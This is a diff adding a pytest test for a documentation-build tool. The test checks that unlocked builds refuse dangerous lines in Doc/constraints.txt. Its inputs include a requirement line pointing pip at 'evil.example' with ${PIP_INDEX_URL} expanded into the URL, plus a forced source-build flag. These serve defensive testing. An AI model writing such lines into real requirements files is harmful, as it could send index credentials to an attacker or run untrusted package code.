@@ -303,3 +303,16 @@ def test_requirements_that_are_a_module_do_not_run(tmp_path: Path) -> None:
     with pytest.raises((StepFailed, ServiceFailed)):
         docs_lock.make(world.release, clone, Docs(), programs, Quiet(), after="base")
     assert "run by us" not in said
+
+
+@pytest.mark.parametrize(
+    ("line", "problem"),
+    [("--no-binary :all:", "own code"), ("blurb @ https://evil.example/${PIP_INDEX_URL}", "value")],
+)
+def test_documentation_without_a_lock_refuses_what_its_lock_would(
+    toy_docs: ToyDocs, line: str, problem: str
+) -> None:
+    """A machine that builds for another person has no lock, and pip reads the tree's own lines."""
+    release, source = toy_docs(changed={"Doc/constraints.txt": f"{line}\n"})
+    with pytest.raises(StepFailed, match=rf"Doc/constraints\.txt:1: has a line .*{problem}"):
+        docs.build(release, source, ["text"], MachinePrograms(), Quiet(), Machine(2, 8000))
